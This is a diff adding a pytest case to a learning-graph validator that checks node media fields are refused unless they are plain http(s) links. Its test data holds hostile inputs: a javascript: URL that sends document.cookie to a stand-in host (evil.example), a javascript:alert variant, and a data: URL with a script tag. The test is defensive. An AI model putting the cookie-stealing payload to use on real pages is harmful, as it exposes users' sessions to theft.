@@ -526,3 +526,22 @@ def test_a_step_taken_and_taken_back_leaves_the_state_as_it_was(graph, picks):
         states.append(choose(graph, states[-1], choice.id, from_node=states[-1].node_id).state)
     for later, earlier in zip(reversed(states[1:]), reversed(states[:-1]), strict=True):
         assert step_back(graph, later) == earlier
+
+
+@pytest.mark.parametrize(
+    ("media", "refused"),
+    [
+        ("https://video.example/settings.mp4", False),
+        ("HTTP://video.example/a", False),
+        ("javascript:fetch('//evil.example/?'+document.cookie)", True),
+        (" JavaScript:alert(1)", True),
+        ("data:text/html,<script>alert(1)</script>", True),
+        ("video.example/settings.mp4", True),
+    ],
+)
+def test_media_must_be_a_web_link(media, refused):
+    """The player links to it: `javascript:` would run in the learner's page."""
+    start = small_graph().node("start")
+    graph = small_graph(nodes={"start": dataclasses.replace(start, media=media)})
+    codes = [(i.node_id, i.code) for i in validate(graph)]
+    assert codes == ([("start", "media_not_a_link")] if refused else [])
